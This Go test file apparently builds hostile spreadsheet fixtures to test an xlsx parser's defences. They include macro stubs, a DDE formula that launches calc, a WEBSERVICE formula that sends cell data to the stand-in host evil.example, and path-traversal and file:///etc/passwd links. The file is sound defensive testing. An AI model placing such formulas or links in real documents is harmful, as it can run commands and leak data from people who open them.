package sheet

import (
	"fmt"
	"iter"
	"maps"
	"slices"
	"strings"
)

// sorted goes through the parts by name.
func sorted(p parts) iter.Seq2[string, string] {
	return func(yield func(string, string) bool) {
		for _, name := range slices.Sorted(maps.Keys(p)) {
			if !yield(name, p[name]) {
				return
			}
		}
	}
}

const (
	wbPart     = "xl/workbook.xml"
	wbRels     = "xl/_rels/workbook.xml.rels"
	sheet1Part = "xl/worksheets/sheet1.xml"
)

// hostileWorkbooks are files whose harm is in how the parts hang together.
func hostileWorkbooks() []maker {
	return []maker{
		asZip("macro.xlsm", func() parts {
			return harmless().with("xl/vbaProject.bin", "\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1"+strings.Repeat("Sub Auto_Open() ", 500)).
				replace(wbRels, "</Relationships>", `<Relationship Id="rId9" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/></Relationships>`).
				with("[Content_Types].xml", contentTypes("application/vnd.ms-excel.sheet.macroEnabled.main+xml"))
		}),
		asZip("macro-sheet.xlsm", func() parts {
			return harmless().replace(wbPart, "<sheets>", `<sheets><sheet name="宏1" sheetId="9" r:id="rId9"/>`).
				replace(wbRels, "</Relationships>", `<Relationship Id="rId9" Type="http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet" Target="macrosheets/sheet1.xml"/></Relationships>`).
				with("xl/macrosheets/sheet1.xml", `<xm:macrosheet><sheetData><row r="1"><c r="A1"><f>EXEC("calc")</f><v>1</v></c></row></sheetData></xm:macrosheet>`)
		}),
		asZip("external-links.xlsx", externalLinks),
		asZip("wrong-content-types.xlsx", func() parts {
			return harmless().with("[Content_Types].xml", `<Types><Default Extension="xml" ContentType="image/png"/><Override PartName="/xl/workbook.xml" ContentType="text/html"/></Types>`)
		}),
		asZip("climbing-target.xlsx", func() parts {
			return harmless().replace(wbRels, "worksheets/sheet1.xml", "../../../../../etc/passwd")
		}),
		asZip("relations-in-circles.xlsx", func() parts {
			return harmless().with("_rels/.rels", rels(`Id="rId1" Type="`+relationships+`/officeDocument" Target="_rels/.rels"`))
		}),
		asZip("sheet-is-workbook.xlsx", func() parts { return harmless().replace(wbRels, "worksheets/sheet1.xml", "workbook.xml") }),
		asZip("no-such-part.xlsx", func() parts { return without(harmless(), sheet1Part) }),
		asZip("sheets-same-part.xlsx", sheetsSamePart),
		asZip("sheets-same-wide-part.xlsx", func() parts { return sheetsTooWide(sheetsSamePart()) }),
		asZip("sheets-beyond.xlsx", func() parts {
			return harmless().replace(wbPart, "</sheets>", strings.Repeat(`<sheet name="x" sheetId="2" r:id="rId1"/>`, maxSheets)+"</sheets>")
		}),
	}
}

func contentTypes(main string) string {
	return `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/>` +
		`<Override PartName="/xl/workbook.xml" ContentType="` + main + `"/></Types>`
}

// externalLinks asks for other files in all the ways there are.
func externalLinks() parts {
	return harmless().
		replace(sheet1Part, "</row></sheetData>", `<c r="D2" t="str"><f>[1]Sheet1!A1</f><v>别处</v></c><c r="E2" t="str"><f>cmd|'/C calc'!A0</f><v>x</v></c>`+
			`<c r="F2"><f>WEBSERVICE("https://evil.example/?"&amp;C2)</f><v>1</v></c></row></sheetData><hyperlinks><hyperlink ref="B2" r:id="rId7" xmlns:r="`+relationships+`"/></hyperlinks>`).
		with("xl/worksheets/_rels/sheet1.xml.rels", rels(`Id="rId7" Type="`+relationships+`/hyperlink" Target="https://evil.example/" TargetMode="External"`)).
		replace(wbRels, "</Relationships>", `<Relationship Id="rId8" Type="`+relationships+`/externalLink" Target="externalLinks/externalLink1.xml"/>`+
			`<Relationship Id="rId9" Type="`+relationships+`/sharedStrings" Target="file:///etc/passwd" TargetMode="External"/></Relationships>`).
		with("xl/externalLinks/externalLink1.xml", `<externalLink><externalBook r:id="rId1"/></externalLink>`).
		with("xl/externalLinks/_rels/externalLink1.xml.rels", rels(`Id="rId1" Type="`+relationships+`/externalLinkPath" Target="file:///etc/passwd" TargetMode="External"`))
}

// sheetsSamePart lists one sheet of what may be headings six hundred times.
func sheetsSamePart() parts {
	var rows, sheets strings.Builder
	for r := range 15 {
		fmt.Fprintf(&rows, `<row r="%d"><c r="A%d" t="str"><v>情况</v></c>`, r+1, r+1)
		for range 900 {
			rows.WriteString(`<c t="str"><v>姓名情况</v></c>`)
		}
		rows.WriteString("</row>")
	}
	for i := range 600 {
		fmt.Fprintf(&sheets, `<sheet name="表%d" sheetId="%d" r:id="rId1"/>`, i, i+1)
	}
	return book1(rows.String()).replace(wbPart, `<sheet name="表" sheetId="1" r:id="rId1"/>`, sheets.String())
}

// sheetsTooWide adds a cell far to the right to each row.
func sheetsTooWide(p parts) parts {
	return p.with(sheet1Part, strings.ReplaceAll(p[sheet1Part], "</row>", `<c r="XFD1"><v>1</v></c></row>`))
}
